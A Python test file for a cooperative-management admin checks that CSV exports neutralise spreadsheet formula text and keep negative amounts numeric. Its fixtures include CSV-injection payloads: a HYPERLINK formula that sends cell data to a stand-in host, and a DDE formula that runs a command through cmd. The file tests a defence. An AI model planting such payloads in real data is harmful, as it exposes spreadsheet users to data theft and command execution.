"""The admin's CSV exports: text a spreadsheet would run as a formula is neutralised, amounts stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

from flask import Flask
from sqlalchemy import Engine, select, update
from sqlalchemy.orm import Session

from coopcore.models import Cooperative, IncomeCategory, IncomeExpense, Member
from tests.admin.demo import sign_in

LINK = '=HYPERLINK("http://x?d="&B2,"点此")'
CALC = "=cmd|' /C calc'!A0"


def _rows(client: object, url: str) -> list[dict[str, str]]:
    response = client.get(url)  # type: ignore[attr-defined]
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


def test_csv_exports_neutralise_formula_text_and_keep_negative_amounts(example_app: tuple[Flask, Engine]) -> None:
    app, engine = example_app
    with Session(engine) as session, session.begin():
        cooperative = session.scalars(select(Cooperative)).one()
        cooperative.name = "@SUM(1+1)合作社"
        session.execute(update(Member).where(Member.code == "M02").values(name=LINK))
        session.execute(update(Member).where(Member.code == "M03").values(name=CALC))
        session.add(
            IncomeExpense(
                cooperative_id=cooperative.id,
                recorded_on=dt.date(2024, 3, 31),
                category=IncomeCategory.INVESTMENT_INCOME,
                amount=Decimal("-500.00"),
                memo="-500 联合社投资损失",
                voucher_no="+1",
            )
        )
    client = app.test_client()
    sign_in(client, "chief")

    members = {row["编号"]: row for row in _rows(client, "/admin/member/export/csv/")}
    [income] = [row for row in _rows(client, "/admin/income_expense/export/csv/") if "联合社" in row["摘要"]]

    assert members["M02"]["名称"] == "'" + LINK and members["M03"]["名称"] == "'" + CALC
    assert members["M02"]["合作社"] == "'@SUM(1+1)合作社"
    assert members["M04"]["名称"] == members["M04"]["名称"].lstrip("'")  # ordinary names untouched
    assert income["摘要"] == "'-500 联合社投资损失" and income["凭证号"] == "'+1"
    assert income["金额"].startswith("-") and "500.00" in income["金额"]  # a negative amount, not text
